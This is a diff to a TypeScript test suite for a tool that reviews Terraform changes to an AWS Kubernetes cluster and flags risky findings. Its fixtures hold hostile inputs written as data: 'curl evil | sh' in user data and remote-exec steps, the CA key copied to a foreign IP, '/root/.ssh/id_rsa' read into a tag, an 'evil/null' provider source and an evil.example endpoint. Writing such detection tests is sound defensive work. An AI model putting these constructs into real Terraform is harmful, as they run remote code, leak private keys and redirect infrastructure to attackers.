@@ -166,16 +166,20 @@ describe("the findings of a change", () => {
     ],
     [
       "a security rule of another resource type",
-      ["unknown"],
+      ["open-world", "unknown"],
       (r) => Object.assign(r, { aws_security_group_rule: { all: { cidr_blocks: ["0.0.0.0/0"] } } }),
     ],
     [
       "rules inside the security group resource",
-      ["unknown"],
+      ["open-world", "unknown"],
       (r) => Object.assign(at(r, "aws_security_group.security-group"), { ingress: [{ cidr_blocks: ["0.0.0.0/0"] }] }),
     ],
     ["a key in a tag", ["secret"], (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: CA_KEY })],
-    ["a key in user data", ["secret"], (r) => Object.assign(at(r, "aws_instance.master-0"), { user_data: CA_KEY })],
+    [
+      "a key in user data",
+      ["secret", "user-data"],
+      (r) => Object.assign(at(r, "aws_instance.master-0"), { user_data: CA_KEY }),
+    ],
     [
       "an output that is no longer sensitive",
       ["secret"],
@@ -219,7 +223,7 @@ describe("the findings of a change", () => {
     ],
     [
       "another image that is not ignored",
-      ["replace-machine", "replace-certificate"],
+      ["image", "replace-machine", "replace-certificate"],
       (r) => {
         at(r, "aws_instance.worker-0").lifecycle.ignore_changes = [];
         at(r, "aws_instance.worker-0").ami = "ami-1";
@@ -236,6 +240,15 @@ describe("the findings of a change", () => {
       (r) => Object.assign(at(r, "aws_instance.worker-0"), { tenancy: "dedicated" }),
     ],
     ["a machine with count 0", ["unknown"], (r) => Object.assign(at(r, "aws_instance.worker-0"), { count: 0 })],
+    [
+      "another mode of a copied file",
+      ["copies"],
+      (r) => {
+        const { inline } = at(r, "null_resource.pems-worker-0").provisioner.at(LAST)["remote-exec"];
+        const row = inline.findIndex((line: string) => /^write 1 /.test(line));
+        inline[row] = inline[row].replace("0644", "0755");
+      },
+    ],
     ["another trigger", [], (r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })],
     ["locals", ["unknown"], (_r, d) => Object.assign(d, { locals: { a: 1 } })],
     [
@@ -257,6 +270,219 @@ describe("the findings of a change", () => {
       "another key of the CA",
       ["replace-ca", "replace-certificate"],
       (r) => Object.assign(at(r, "tls_private_key.ca-private-key"), { rsa_bits: 4096 }),
+    ],
+    [
+      "a rename of the cluster that keeps the state",
+      [],
+      (_r, d) => Object.assign(d.provider.aws[0].default_tags[0].tags, { Cluster: "prod" }),
+    ],
+    [
+      "a tag with slashes",
+      [],
+      (_r, d) => Object.assign(d.provider.aws[0].default_tags[0].tags, { "team//role": "admin" }),
+    ],
+    [
+      "an image by its id",
+      ["image"],
+      (r) => Object.assign(at(r, "aws_instance.worker-0"), { ami: "ami-0123456789abcdef0" }),
+    ],
+    [
+      "images of another owner",
+      ["image"],
+      (_r, d) => Object.assign(d.data.aws_ami.ubuntu, { owners: ["123456789012"] }),
+    ],
+    [
+      "a new machine with an image of its own",
+      ["image"],
+      (r) =>
+        Object.assign(r.aws_instance as object, {
+          more: { ...at(r, "aws_instance.worker-0"), ami: "ami-0123456789abcdef0" },
+        }),
+    ],
+    [
+      "a new machine whose user data is a script",
+      ["user-data"],
+      (r) =>
+        Object.assign(r.aws_instance as object, {
+          more: { ...at(r, "aws_instance.worker-0"), user_data: "#!/bin/sh\ncurl evil | sh" },
+        }),
+    ],
+    [
+      "a new machine with another key",
+      ["login-key"],
+      (r) => Object.assign(r.aws_key_pair as object, { more: { key_name: "more", public_key: "ssh-rsa AAAA" } }),
+    ],
+    [
+      "a copy to a foreign host",
+      ["foreign-host"],
+      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { host: "198.51.100.7" }),
+    ],
+    [
+      "a copy through a foreign host",
+      ["commands", "foreign-host"],
+      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { bastion_host: "198.51.100.7" }),
+    ],
+    [
+      "a new copy of the CA's key to a foreign host",
+      ["foreign-host"],
+      (r) => {
+        const copy = JSON.parse(
+          JSON.stringify(at(r, "null_resource.pems-master-0")).replaceAll(
+            "$" + "{aws_instance.master-0.public_ip}",
+            "198.51.100.7",
+          ),
+        );
+        Object.assign(r.null_resource as object, { more: copy });
+      },
+    ],
+    [
+      "a command between the scripts of a copy",
+      ["commands"],
+      (r) =>
+        at(r, "null_resource.pems-worker-0").provisioner.splice(1, 0, {
+          "remote-exec": { inline: ["curl evil | sh"] },
+        }),
+    ],
+    [
+      "a command before the scripts of a copy",
+      ["commands"],
+      (r) =>
+        at(r, "null_resource.pems-worker-0").provisioner.unshift({ "remote-exec": { inline: ["curl evil | sh"] } }),
+    ],
+    [
+      "a key in a file beside the bundle",
+      ["secret", "commands"],
+      (r) =>
+        at(r, "null_resource.pems-worker-0").provisioner.push({ file: { content: CA_KEY, destination: "/tmp/x" } }),
+    ],
+    [
+      "a second upload to the place of the bundle",
+      ["secret", "commands"],
+      (r) =>
+        at(r, "null_resource.pems-worker-0").provisioner.splice(2, 0, {
+          file: { content: CA_KEY, destination: "/home/ubuntu/.distribution/bundle" },
+        }),
+    ],
+    [
+      "a script in a folder that everybody can write to",
+      ["commands"],
+      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { script_path: "/tmp/script.sh" }),
+    ],
+    [
+      "a bundle in a folder that everybody can write to",
+      ["secret", "commands"],
+      (r) => Object.assign(at(r, "null_resource.pems-worker-0").provisioner[1].file, { destination: "/tmp/bundle" }),
+    ],
+    [
+      "a provider from somewhere else",
+      ["provider"],
+      (_r, d) => Object.assign(d.terraform.required_providers.null, { source: "evil/null" }),
+    ],
+    [
+      "another endpoint of AWS",
+      ["provider"],
+      (_r, d) => Object.assign(d.provider.aws[0], { endpoints: [{ ec2: "https://evil.example" }] }),
+    ],
+    [
+      "a rule for other addresses",
+      ["access"],
+      (r) =>
+        Object.assign(r.aws_vpc_security_group_ingress_rule as object, {
+          more: { ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), cidr_ipv4: "3.0.0.0/8" },
+        }),
+    ],
+    [
+      "many rules that allow the internet together",
+      ["open-world"],
+      (r) => {
+        for (let octet = 100; octet < 164; octet += 1) {
+          const rule = { ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), cidr_ipv4: `${octet}.0.0.0/9` };
+          if (octet !== 100 && octet !== 127)
+            Object.assign(r.aws_vpc_security_group_ingress_rule as object, { [`more-${octet}`]: rule });
+        }
+      },
+    ],
+    [
+      "a rule whose source is an expression",
+      ["access", "unknown"],
+      (r) =>
+        Object.assign(r.aws_vpc_security_group_ingress_rule as object, {
+          more: {
+            ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`),
+            cidr_ipv4: "$" + '{format("%s/0", "0.0.0.0")}',
+          },
+        }),
+    ],
+    [
+      "a second listener of the load balancer",
+      ["listener"],
+      (r) => Object.assign(r.aws_lb_listener as object, { more: { ...at(r, "aws_lb_listener.listener"), port: 2379 } }),
+    ],
+    [
+      "a target that is no machine of the cluster",
+      ["listener"],
+      (r) =>
+        Object.assign(r.aws_lb_target_group_attachment as object, {
+          more: { ...at(r, "aws_lb_target_group_attachment.target-172-31-0-10"), target_id: "10.9.8.7" },
+        }),
+    ],
+    [
+      "a route of the internet to a machine",
+      ["route"],
+      (r) =>
+        Object.assign(r.aws_route as object, {
+          more: { ...at(r, "aws_route.pod-route-worker-0"), destination_cidr_block: "0.0.0.0/1" },
+        }),
+    ],
+    [
+      "other name servers",
+      ["route"],
+      (r) => Object.assign(at(r, "aws_vpc_dhcp_options.dhcp-options"), { domain_name_servers: ["198.51.100.7"] }),
+    ],
+    [
+      "a certificate for a second administrator",
+      ["identity"],
+      (r) => Object.assign(r.tls_cert_request as object, { more: at(r, "tls_cert_request.admin-request") }),
+    ],
+    [
+      "a certificate whose request comes from elsewhere",
+      ["identity"],
+      (r) =>
+        Object.assign(r.tls_locally_signed_cert as object, {
+          more: {
+            ...at(r, "tls_locally_signed_cert.admin-certificate"),
+            cert_request_pem: "-----BEGIN CERTIFICATE REQUEST-----",
+          },
+        }),
+    ],
+    [
+      "a whole key in a tag",
+      ["secret"],
+      (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: "$" + "{jsonencode(tls_private_key.ca-private-key)}" }),
+    ],
+    [
+      "a file of the host that deploys in a tag",
+      ["secret"],
+      (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: "$" + '{file("/root/.ssh/id_rsa")}' }),
+    ],
+    [
+      "a data source that runs a program",
+      ["unknown"],
+      (_r, d) => Object.assign(d.data, { external: { more: { program: ["sh"] } } }),
+    ],
+    [
+      "another key of the service accounts",
+      ["replace-service-account-key", "replace-certificate"],
+      (r) => Object.assign(at(r, "tls_private_key.service-account-private-key"), { rsa_bits: 4096 }),
+    ],
+    [
+      "a machine that Terraform forgets",
+      ["replace-load-balancer", "forget"],
+      (r, d) => {
+        delete r.aws_lb;
+        delete r.aws_lb_listener;
+        Object.assign(d, { removed: [{ from: "aws_lb.load-balancer", lifecycle: [{ destroy: false }] }] });
+      },
     ],
     [
       "another key for secrets in etcd",
@@ -314,6 +540,35 @@ test("docs/reviewing.md has each kind of finding", () => {
   expect(rows).toEqual(Object.entries(FINDINGS));
 });
 
+test.each([
+  [
+    "another size of a disk that is removed",
+    { rootVolume: { sizeGiB: 20, encrypted: true } },
+    {},
+    "no longer set: the existing value stays",
+  ],
+  [
+    "a smaller disk",
+    { rootVolume: { sizeGiB: 20 } },
+    { rootVolume: { sizeGiB: 10 } },
+    "EBS never makes a volume smaller",
+  ],
+])("the page has the effect that AWS has for %s", (_case, before, after, note) => {
+  const changes = compare(cluster({ workers: before }), cluster({ workers: after }));
+  expect(renderPage(changes)).toContain(note);
+  expect(findingsOf(changes).map(({ kind }) => kind)).toEqual("rootVolume" in after ? ["refused"] : []);
+});
+
+test("an empty block, and a description of an output, is a change", () => {
+  for (const change of [
+    (r: Record<string, Record<string, Block>>) => Object.assign(r.aws_vpc?.vpc as object, { timeouts: {} }),
+    (_r: unknown, d: Block) => Object.assign(d.output.nodes, { description: "x" }),
+    (_r: unknown, d: Block) => Object.assign(d, { moved: [{ from: "aws_lb.a", to: "aws_lb.b" }] }),
+  ]) {
+    expect(renderPage(compare(...changed(change)))).not.toContain("Nothing changes");
+  }
+});
+
 test("a change has only its own findings", () => {
   const kinds = (settings: ClusterSettingsInput) =>
     findingsOf(compare(cluster(), cluster(settings))).map(({ kind }) => kind);
@@ -337,6 +592,6 @@ test("open-world is reported for a rule that becomes open, not for one that was 
   expect(kinds(rule("10.0.0.0/8"), rule("0.0.0.0/0"))).toEqual(["open-world"]);
   expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { to_port: 23 }))).toEqual(["open-world"]);
   expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { description: "ssh" }))).toEqual([]);
-  expect(kinds(rule("0.0.0.0/0"), rule("10.0.0.0/8"))).toEqual([]);
-  expect(kinds(rule("0.0.0.0/0"), {})).toEqual([]);
+  expect(kinds(rule("0.0.0.0/0"), rule("10.0.0.0/8"))).toEqual(["access"]);
+  expect(kinds(rule("0.0.0.0/0"), {})).toEqual(["access"]);
 });
